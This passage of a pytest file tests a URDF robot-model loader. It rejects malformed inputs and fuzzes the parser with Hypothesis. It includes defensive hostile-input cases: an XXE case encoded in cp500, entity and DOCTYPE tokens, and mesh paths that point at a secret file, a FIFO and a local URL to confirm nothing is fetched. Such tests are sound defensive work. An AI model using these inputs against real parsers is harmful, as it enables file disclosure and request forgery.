    ("xxe_in_ebcdic_cp500", lambda c: _xxe_file(c).replace('version="1.0"?>', 'version="1.0" encoding="cp500"?>')
     .encode("cp500"), ()),
    ("source_none", lambda c: None, ()),
    ("source_int", lambda c: 42, ()),
    ("directory_path", lambda c: c.tmp, ()),
    ("directory_str_path", lambda c: str(c.tmp), ()),
    ("str_with_nul_byte_path", lambda c: "robot\x00.urdf", ()),
    ("very_long_str_path", lambda c: "a" * 10_000 + ".urdf", ()),
]


@pytest.mark.parametrize(
    "factory,contains", [(f, w) for _, f, w in DEGENERATE_CASES], ids=[n for n, _, _ in DEGENERATE_CASES]
)
def test_degenerate_inputs_rejected(ctx, factory, contains):
    expect_urdf_error(factory(ctx), contains)


# ---- object-shaped (yourdfpy) hostile inputs ----------------------------------------------------


def _T(xyz=(0.0, 0.0, 0.0), rpy=(0.0, 0.0, 0.0)):
    r, p, y = rpy
    cr, sr, cp, sp, cy, sy = math.cos(r), math.sin(r), math.cos(p), math.sin(p), math.cos(y), math.sin(y)
    Rz = np.array([[cy, -sy, 0], [sy, cy, 0], [0, 0, 1]])
    Ry = np.array([[cp, 0, sp], [0, 1, 0], [-sp, 0, cp]])
    Rx = np.array([[1, 0, 0], [0, cr, -sr], [0, sr, cr]])
    T = np.eye(4)
    T[:3, :3] = Rz @ Ry @ Rx
    T[:3, 3] = xyz
    return T


def _olink(name):
    return SimpleNamespace(name=name, visuals=[], collisions=[], inertial=None)


def _ojoint(name, jtype, parent, child, *, origin=None, axis=(0.0, 0.0, 1.0), limit="default", mimic=None):
    if limit == "default":
        limit = SimpleNamespace(lower=-1.0, upper=1.0, effort=1.0, velocity=1.0) if jtype in (
            "revolute", "prismatic") else None
    return SimpleNamespace(
        name=name, type=jtype, parent=parent, child=child, origin=origin,
        axis=None if axis is None else np.asarray(axis, dtype=float), limit=limit, mimic=mimic,
        dynamics=None, calibration=None, safety_controller=None,
    )


def _orobot(links, joints, name="obj_robot"):
    return SimpleNamespace(name=name, links=[_olink(n) for n in links], joints=joints, materials=[])


def _bad_origin():
    T = _T((0.1, 0.2, 0.3))
    T[0, 3] = float("nan")
    return T


OBJECT_CASES = [
    ("obj_missing_link", lambda: _orobot(["base"], [_ojoint("j_bad", "fixed", "base", "ghost_link")]),
     ("j_bad", "ghost_link")),
    ("obj_duplicate_link", lambda: _orobot(["base", "dup_link", "dup_link"],
                                           [_ojoint("j1", "fixed", "base", "dup_link")]), ("dup_link",)),
    ("obj_duplicate_joint", lambda: _orobot(["base", "a", "b"], [_ojoint("dup_joint", "fixed", "base", "a"),
                                                                 _ojoint("dup_joint", "fixed", "a", "b")]),
     ("dup_joint",)),
    ("obj_cycle", lambda: _orobot(["la", "lb"], [_ojoint("j1", "fixed", "la", "lb"),
                                                 _ojoint("j2", "fixed", "lb", "la")]),
     ("root", "cycle", "la", "lb")),
    ("obj_nan_origin", lambda: _orobot(["base", "arm"], [_ojoint("j_bad", "revolute", "base", "arm",
                                                                 origin=_bad_origin())]), ("j_bad",)),
    ("obj_zero_axis", lambda: _orobot(["base", "arm"], [_ojoint("j_bad", "revolute", "base", "arm",
                                                                axis=(0, 0, 0))]), ("j_bad",)),
    ("obj_missing_limit", lambda: _orobot(["base", "arm"], [_ojoint("j_bad", "revolute", "base", "arm",
                                                                    limit=None)]), ("j_bad",)),
    ("obj_inverted_limit", lambda: _orobot(["base", "arm"], [_ojoint(
        "j_bad", "prismatic", "base", "arm",
        limit=SimpleNamespace(lower=1.0, upper=0.0, effort=1.0, velocity=1.0))]), ("j_bad",)),
    ("obj_unknown_type", lambda: _orobot(["base", "arm"], [_ojoint("j_bad", "banana", "base", "arm")]),
     ("j_bad",)),
    ("obj_mimic_self", lambda: _orobot(["base", "arm"], [_ojoint(
        "j_bad", "revolute", "base", "arm", mimic=SimpleNamespace(joint="j_bad", multiplier=1.0, offset=0.0))]),
     ("j_bad",)),
    ("obj_no_links", lambda: _orobot([], []), ("link",)),
]


def _one_obj_joint(**kw):
    return _orobot(["base", "arm"], [_ojoint("j_bad", "revolute", "base", "arm", **kw)])


OBJECT_CASES += [
    ("obj_origin_3x3", lambda: _one_obj_joint(origin=np.eye(3)), ("j_bad",)),
    ("obj_origin_nan_rotation", lambda: _one_obj_joint(origin=np.full((4, 4), np.nan)), ("j_bad",)),
    ("obj_axis_two_numbers", lambda: _one_obj_joint(axis=(0.0, 1.0)), ("j_bad",)),
    ("obj_axis_nan", lambda: _one_obj_joint(axis=(0.0, np.nan, 1.0)), ("j_bad",)),
    ("obj_limit_non_numeric", lambda: _one_obj_joint(
        limit=SimpleNamespace(lower="low", upper=1.0, effort=1.0, velocity=1.0)), ("j_bad",)),
    ("obj_limit_inf", lambda: _one_obj_joint(
        limit=SimpleNamespace(lower=-np.inf, upper=1.0, effort=1.0, velocity=1.0)), ("j_bad",)),
    ("obj_mimic_missing", lambda: _one_obj_joint(mimic=SimpleNamespace(joint="nope", multiplier=1.0, offset=0.0)),
     ("j_bad",)),
    ("obj_links_none", lambda: SimpleNamespace(name="r", links=None, joints=[]), ("link",)),
    ("obj_link_without_name", lambda: SimpleNamespace(name="r", links=[SimpleNamespace()], joints=[]), ("link",)),
]


@pytest.mark.parametrize("make,contains", [(m, w) for _, m, w in OBJECT_CASES], ids=[n for n, _, _ in OBJECT_CASES])
def test_object_shaped_hostile_rejected(make, contains):
    expect_urdf_error(make(), contains)


# --------------------------------------------------------------------------------------------------
# positive tests
# --------------------------------------------------------------------------------------------------


def _check_valid_model(model):
    assert isinstance(model, RobotModel)
    assert model.name == "tiny"
    assert model.root_link == "base"
    assert set(model.links) == {"base", "upper", "lower", "tool"}
    assert set(model.joints) == {"shoulder", "slide", "wrist"}
    sh = model.joints["shoulder"]
    assert sh.type == "revolute" and sh.parent == "base" and sh.child == "upper"
    assert list(sh.origin_xyz) == pytest.approx([0, 0, 0.5])
    assert list(sh.axis) == pytest.approx([0, 0, 1])
    assert (sh.limit.lower, sh.limit.upper, sh.limit.effort, sh.limit.velocity) == pytest.approx((-1.5, 1.5, 10, 2))
    sl = model.joints["slide"]
    assert sl.type == "prismatic"
    assert list(sl.origin_rpy) == pytest.approx([0, 0.5, 0])
    assert model.joints["wrist"].type == "continuous"
    assert sh.mimic is None


@pytest.mark.parametrize("kind", ["str", "bytes", "path", "str_path", "utf8_bom_bytes"])
def test_valid_urdf_all_source_kinds(tmp_path, kind):
    p = tmp_path / "tiny.urdf"
    p.write_text(VALID, encoding="utf-8")
    source = {
        "str": VALID,
        "bytes": VALID.encode("utf-8"),
        "path": p,
        "str_path": str(p),
        "utf8_bom_bytes": b"\xef\xbb\xbf" + VALID.encode("utf-8"),
    }[kind]
    _check_valid_model(load(source))


def test_valid_urdf_with_leading_whitespace_str():
    _check_valid_model(load("\n   " + VALID.split("\n", 1)[1]))


def test_yourdfpy_shaped_object():
    rpy = (0.1, -0.2, 0.3)
    obj = _orobot(
        ["base", "upper", "lower", "tool"],
        [
            _ojoint("shoulder", "revolute", "base", "upper", origin=_T((0, 0, 0.5)), axis=(0, 0, 2.0),
                    limit=SimpleNamespace(lower=-1.5, upper=1.5, effort=10.0, velocity=2.0)),
            _ojoint("slide", "prismatic", "upper", "lower", origin=_T((0.1, 0, 0), rpy), axis=(1, 0, 0),
                    limit=SimpleNamespace(lower=0.0, upper=0.2, effort=5.0, velocity=0.5)),
            _ojoint("wrist", "continuous", "lower", "tool", origin=None, axis=(0, 1, 0), limit=None,
                    mimic=SimpleNamespace(joint="shoulder", multiplier=2.0, offset=0.1)),
        ],
        name="tiny",
    )
    model = load(obj)
    assert model.root_link == "base"
    assert set(model.links) == {"base", "upper", "lower", "tool"}
    sh = model.joints["shoulder"]
    assert list(sh.origin_xyz) == pytest.approx([0, 0, 0.5])
    assert list(sh.axis) == pytest.approx([0, 0, 1])
    assert (sh.limit.lower, sh.limit.upper) == pytest.approx((-1.5, 1.5))
    sl = model.joints["slide"]
    assert list(sl.origin_xyz) == pytest.approx([0.1, 0, 0])
    assert list(sl.origin_rpy) == pytest.approx(list(rpy), abs=1e-9)
    wr = model.joints["wrist"]
    assert list(wr.origin_xyz) == pytest.approx([0, 0, 0]) and list(wr.origin_rpy) == pytest.approx([0, 0, 0])
    assert wr.mimic.joint == "shoulder"
    assert (wr.mimic.multiplier, wr.mimic.offset) == pytest.approx((2.0, 0.1))


def test_axis_is_normalized():
    model = load(one_joint(axis="0 0 2"))
    ax = list(model.joints["j_bad"].axis)
    assert ax == pytest.approx([0, 0, 1])
    model = load(one_joint(axis="3 0 4", jtype="prismatic"))
    assert list(model.joints["j_bad"].axis) == pytest.approx([0.6, 0, 0.8])
    model = load(one_joint(axis="1e-3 1e-3 0", jtype="continuous"))
    assert math.isclose(float(np.linalg.norm(np.asarray(model.joints["j_bad"].axis, dtype=float))), 1.0)


def test_defaults_when_origin_and_axis_missing():
    model = load(one_joint(xyz=None, rpy=None, axis=None))
    j = model.joints["j_bad"]
    assert list(j.origin_xyz) == pytest.approx([0, 0, 0])
    assert list(j.origin_rpy) == pytest.approx([0, 0, 0])
    assert list(j.axis) == pytest.approx([1, 0, 0])  # URDF default axis


@pytest.mark.parametrize("jtype", ["floating", "planar"])
def test_floating_and_planar_parse(jtype):
    src = robot(["world", "body"], [J("free", jtype, "world", "body", limit=False)])
    model = load(src)
    assert model.joints["free"].type == jtype
    assert model.root_link == "world"


def test_valid_mimic_parses():
    model = load(_mimic_robot("j_src"))
    m = model.joints["j_mimic"].mimic
    assert m.joint == "j_src" and (m.multiplier, m.offset) == pytest.approx((1.0, 0.0))


@pytest.mark.parametrize("jtype", ["fixed", "floating"])
def test_zero_axis_on_fixed_and_floating_joint_is_ignored(jtype):
    """urdfdom ignores <axis> on fixed/floating joints; 135 fixed joints in 18 of the 69 example-robot-data
    URDFs (talos, tiago, icub, go2, so101, ...) carry axis="0 0 0". Only joints that move along/about the
    axis (revolute, continuous, prismatic; planar uses it as the normal) need a non-zero one."""
    model = load(robot(["base", "arm"], [J("j_fix", jtype, "base", "arm", axis="0 0 0", limit=False)]))
    assert model.joints["j_fix"].type == jtype


def test_xacro_namespace_declaration_alone_is_fine():
    """Expanded xacro output often keeps xmlns:xacro on <robot> (38 of 69 example-robot-data URDFs do)."""
    model = load(robot(["base", "arm"], [J("j", "fixed", "base", "arm")], attrs=" " + XACRO_NS))
    assert set(model.links) == {"base", "arm"}


def test_substitutions_inside_comments_are_fine():
    """Real URDFs (talos, go1) carry ${...} / $(find ...) inside XML comments; only parsed content counts."""
    src = robot(
        ["base", "arm"],
        ['<!-- <limit upper="${pi/2}"/> $(find pkg)/x.stl <xacro:macro name="m"/> -->',
         J("j", "revolute", "base", "arm")],
    )
    model = load(src)
    assert model.joints["j"].limit.upper == pytest.approx(1.0)


def _example_robot_data_dir():
    import sys

    for base in {sys.prefix, sys.base_prefix}:
        for d in pathlib.Path(base).glob("lib/python3*/site-packages/cmeel.prefix/share/example-robot-data/robots"):
            return d
    return None


REAL_ROBOTS = [
    "panda_description/urdf/panda.urdf",
    "ur_description/urdf/ur5_robot.urdf",
    "talos_data/robots/talos_left_arm.urdf",
    "go1_description/urdf/go1.urdf",
    "tiago_description/robots/tiago_dual.urdf",
]


@pytest.mark.parametrize("rel", REAL_ROBOTS)
def test_real_robot_urdfs_load(rel):
    d = _example_robot_data_dir()
    if d is None or not (d / rel).is_file():
        pytest.skip(f"example-robot-data file {rel} not installed")
    model = load(d / rel, seconds=10.0)
    assert len(model.links) >= 2 and model.root_link in model.links


def _chain_xml(n):
    links = "".join(f'<link name="l{i}"/>' for i in range(n + 1))
    joints = "".join(
        f'<joint name="j{i}" type="fixed"><parent link="l{i}"/><child link="l{i + 1}"/></joint>' for i in range(n)
    )
    return f'<robot name="chain">{links}{joints}</robot>'



def test_100k_link_chain_loads_without_recursion():
    n = 100_000
    src = _chain_xml(n - 1)
    if len(src.encode()) > _size_cap():
        pytest.skip(f"100k-link chain XML ({len(src)} bytes) exceeds the reader's size cap")
    t0 = time.perf_counter()
    model = load(src, seconds=30.0)
    elapsed = time.perf_counter() - t0
    assert len(model.links) == n and len(model.joints) == n - 1
    assert model.root_link == "l0"
    assert elapsed < 15.0, f"100k chain took {elapsed:.1f} s"



def test_100k_link_chain_object_loads_without_recursion():
    n = 100_000
    obj = SimpleNamespace(
        name="chain",
        links=[SimpleNamespace(name=f"l{i}") for i in range(n)],
        joints=[_ojoint(f"j{i}", "fixed", f"l{i}", f"l{i + 1}") for i in range(n - 1)][::-1],
    )
    model = load(obj, seconds=30.0)
    assert len(model.links) == n and model.root_link == "l0"


def test_meshes_are_never_touched(ctx):
    fifo = ctx.tmp / "mesh.fifo"  # opening a FIFO for reading blocks -> a reader that opens meshes hangs
    if not fifo.exists():
        os.mkfifo(fifo)
    before = len(ctx.hits)
    meshes = [
        "/nonexistent/dir/mesh.stl",
        "package://no_such_pkg/meshes/link.dae",
        f"{ctx.url}/mesh.stl",
        f"file://{fifo}",
        str(fifo),
        str(ctx.secret_path),
    ]
    visuals = "".join(
        f'<link name="m{i}"><visual><geometry><mesh filename="{m}" scale="1 1 1"/></geometry></visual>'
        f'<collision><geometry><mesh filename="{m}"/></geometry></collision></link>'
        for i, m in enumerate(meshes)
    )
    joints = "".join(J(f"jm{i}", "fixed", "base", f"m{i}") for i in range(len(meshes)))
    src = f'<robot name="meshy"><link name="base"/>{visuals}{joints}</robot>'
    model = load(src)
    assert set(model.links) == {"base"} | {f"m{i}" for i in range(len(meshes))}
    time.sleep(0.05)
    assert len(ctx.hits) == before, f"reader fetched meshes over HTTP: {ctx.hits[before:]}"


# --------------------------------------------------------------------------------------------------
# hypothesis fuzzing
# --------------------------------------------------------------------------------------------------


def _outcome(source):
    """Either a RobotModel or URDFError; anything else fails inside ``load``."""
    try:
        return load(source)
    except URDFError as exc:
        return exc


@pytest.fixture(scope="module")
def empty_cwd(tmp_path_factory):
    """Random text can be taken for a relative path: fuzz from an empty directory."""
    d = tmp_path_factory.mktemp("fuzz_cwd")
    with contextlib.chdir(d):
        yield d


XML_TOKENS = [
    "<robot", "<robot name='r'>", "</robot>", "<link name='a'/>", "<link name='b'/>", "<link", "/>", ">",
    "<joint name='j' type='revolute'>", "<joint name='j' type='fixed'>", "</joint>", "<parent link='a'/>",
    "<child link='b'/>", "<child link='a'/>", "<origin xyz='0 0 nan'/>", "<origin rpy='1 2 3'/>",
    "<axis xyz='0 0 0'/>", "<axis xyz='0 0 1'/>", "<limit lower='1' upper='-1'/>", "<limit lower='-1' upper='1'/>",
    "<mimic joint='j'/>", "<!DOCTYPE robot>", "<!ENTITY e 'x'>", "&e;", "&amp;", "&#0;", "&#x110000;", "<![CDATA[",
    "]]>", "<?xml version='1.0'?>", "<!--", "-->", "${x}", "$(find p)", "xmlns:xacro='http://www.ros.org/wiki/xacro'",
    "<xacro:macro name='m'/>", " ", "\n", "'", '"', "=", "\x00", "\ufeff", "1e400", "inf",
]


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.binary(max_size=512))
def test_fuzz_random_bytes(empty_cwd, data):
    _outcome(data)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.one_of(st.text(max_size=256), st.text(max_size=256).map(lambda s: "<" + s)))
def test_fuzz_random_text(empty_cwd, text):
    _outcome(text)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(tokens=st.lists(st.sampled_from(XML_TOKENS), max_size=40), as_bytes=st.booleans())
def test_fuzz_xml_token_soup(empty_cwd, tokens, as_bytes):
    text = "".join(tokens)
    _outcome(text.encode("utf-8", "surrogatepass") if as_bytes else text)


# ---- structured fuzzing -------------------------------------------------------------------------

ACTUATED = ("revolute", "prismatic", "continuous")
ALL_TYPES = ("revolute", "prismatic", "continuous", "fixed", "floating", "planar")
_num = st.floats(-10, 10, allow_nan=False, allow_infinity=False).map(lambda x: repr(float(x)))
_unit = st.floats(-1, 1, allow_nan=False, allow_infinity=False)


@st.composite
def _axis(draw):
    v = [draw(_unit) for _ in range(3)]
    assume(math.sqrt(sum(x * x for x in v)) > 1e-3)
    return " ".join(repr(float(x)) for x in v)


@st.composite
def urdf_trees(draw):
    n = draw(st.integers(1, 9))
    parents = [None] + [draw(st.integers(0, i - 1)) for i in range(1, n)]
    root = ET.Element("robot", name="fuzz")
    link_names = [f"link{i}" for i in range(n)]
    for ln in link_names:
        ET.SubElement(root, "link", name=ln)
    joints = []
    for i in range(1, n):
        jtype = draw(st.sampled_from(ALL_TYPES))
        j = ET.SubElement(root, "joint", name=f"joint{i}", type=jtype)
        ET.SubElement(j, "parent", link=link_names[parents[i]])
        ET.SubElement(j, "child", link=link_names[i])
        if draw(st.booleans()):
            ET.SubElement(j, "origin", xyz=" ".join(draw(_num) for _ in range(3)),
                          rpy=" ".join(draw(_num) for _ in range(3)))
        ET.SubElement(j, "axis", xyz=draw(_axis()))
        if jtype in ("revolute", "prismatic") or draw(st.booleans()):
            lo, hi = sorted(float(draw(_num)) for _ in range(2))
            ET.SubElement(j, "limit", lower=repr(lo), upper=repr(hi), effort="1", velocity="1")
        joints.append(j)
    # optional valid mimic
    act = [j for j in joints if j.get("type") in ACTUATED]
    if len(act) >= 2 and draw(st.booleans()):
        a, b = draw(st.permutations(act))[:2]
        ET.SubElement(a, "mimic", joint=b.get("name"), multiplier=draw(_num), offset=draw(_num))
    return root, joints


SOFT_MUTATIONS = ("drop_attr", "drop_element", "shuffle")
HARD_MUTATIONS = ("nan_origin", "garble_origin", "dup_link", "dup_joint", "cycle_to_root", "ghost_child",
                  "bad_type", "remove_limit", "zero_axis", "inverted_limit", "truncate", "mimic_self")


def _apply(draw, root, joints, mutation):
    """Apply one mutation; return True if it certainly makes the document invalid."""
    links = [link for link in root.findall("link") if link.get("name") is not None]  # drop_attr may strip names
    if mutation == "drop_attr":
        elems = [e for e in root.iter() if e.attrib]
        e = draw(st.sampled_from(elems))
        del e.attrib[draw(st.sampled_from(sorted(e.attrib)))]
        return False
    if mutation == "drop_element":
        cands = [(p, c) for p in root.iter() for c in list(p)]
        if cands:
            p, c = draw(st.sampled_from(cands))
            p.remove(c)
        return False
    if mutation == "shuffle":
        kids = list(root)
        order = draw(st.permutations(kids))
        for k in kids:
            root.remove(k)
        root.extend(order)
        return False
    if mutation in ("dup_link", "cycle_to_root") and not links:
        return False
    if mutation == "dup_link":
        ET.SubElement(root, "link", name=draw(st.sampled_from(links)).get("name"))
        return True
    if mutation == "cycle_to_root":
        tip = draw(st.sampled_from(links)).get("name")
        j = ET.SubElement(root, "joint", name="cycle_joint", type="fixed")
        ET.SubElement(j, "parent", link=tip)
        ET.SubElement(j, "child", link="link0")
        return True
    if mutation == "truncate":
        return "truncate"
    if not joints:
        return False
    j = draw(st.sampled_from(joints))
    if mutation in ("nan_origin", "garble_origin"):
        o = j.find("origin")
        if o is None:
            o = ET.SubElement(j, "origin")
        bad = draw(st.sampled_from(["nan", "inf", "-inf", "1e400"])) if mutation == "nan_origin" else "abc"
        vals = ["0", "0", "0"]
        vals[draw(st.integers(0, 2))] = bad
        o.set(draw(st.sampled_from(["xyz", "rpy"])), " ".join(vals))
        return True
    if mutation == "dup_joint":
        others = [k for k in joints if k is not j and k.get("name") is not None]  # an earlier drop_attr may remove names
        if not others:
            return False
        j.set("name", draw(st.sampled_from(others)).get("name"))
        return True
    if mutation == "ghost_child":
        c = j.find("child")
        if c is None:
            c = ET.SubElement(j, "child")
        c.set("link", "ghost_link")
        return True
    if mutation == "bad_type":
        j.set("type", draw(st.sampled_from(["banana", "Revolute", "", "spherical", "REVOLUTE"])))
        return True
    if mutation == "remove_limit":
        if j.get("type") not in ("revolute", "prismatic"):
            return False
        for lim in j.findall("limit"):
            j.remove(lim)
        return True
    if mutation == "zero_axis":
        if j.get("type") not in ACTUATED:
            return False
        for ax in j.findall("axis"):
            j.remove(ax)
        ET.SubElement(j, "axis", xyz="0 0 0")
        return True
    if mutation == "inverted_limit":
        if j.get("type") not in ("revolute", "prismatic"):
            return False
        for lim in j.findall("limit"):
            j.remove(lim)
        ET.SubElement(j, "limit", lower="1.0", upper="-1.0", effort="1", velocity="1")
        return True
    if mutation == "mimic_self":
        if j.get("type") not in ACTUATED:
            return False
        for m in j.findall("mimic"):
            j.remove(m)
        ET.SubElement(j, "mimic", joint=j.get("name"))
        return True
    raise AssertionError(mutation)


@st.composite
def mutated_urdfs(draw):
    root, joints = draw(urdf_trees())
    n_links = len(root.findall("link"))
    soft = draw(st.lists(st.sampled_from(SOFT_MUTATIONS), max_size=2))
    hard = draw(st.lists(st.sampled_from(HARD_MUTATIONS), max_size=2))
    undoing = any(m != "shuffle" for m in soft)  # shuffle keeps the meaning; drops do not
    mutated = undoing
    for m in soft:
        _apply(draw, root, joints, m)
    joints = [j for j in root.findall("joint")]  # soft mutations may have removed some
    invalid = False
    truncate = False
    for m in hard:
        r = _apply(draw, root, joints, m)
        mutated = mutated or bool(r)
        if r == "truncate":
            truncate = True
        elif r:
            invalid = True
    text = ET.tostring(root, encoding="unicode")
    if truncate:
        cut = draw(st.integers(0, len(text) - len("</robot>") - 1))
        text = text[:cut]
        invalid = mutated = True
    if undoing:  # a dropped element/attribute may undo a hard mutation: no certainty left
        invalid = False
    as_bytes = draw(st.booleans())
    return (text.encode() if as_bytes else text), invalid, mutated, n_links


@settings(max_examples=250, deadline=None)
@given(case=mutated_urdfs())
def test_fuzz_structured_urdf(case):
    source, invalid, mutated, n_links = case
    out = _outcome(source)
    if invalid:
        assert isinstance(out, URDFError), "certainly-invalid mutated URDF was accepted"
    elif not mutated:
        assert isinstance(out, RobotModel), f"valid generated URDF was rejected: {out}"
        assert len(out.links) == n_links and out.root_link == "link0"
        for j in out.joints.values():
            assert math.isclose(float(np.linalg.norm(np.asarray(j.axis, dtype=float))), 1.0, rel_tol=1e-9)
            assert all(math.isfinite(float(x)) for x in list(j.origin_xyz) + list(j.origin_rpy))
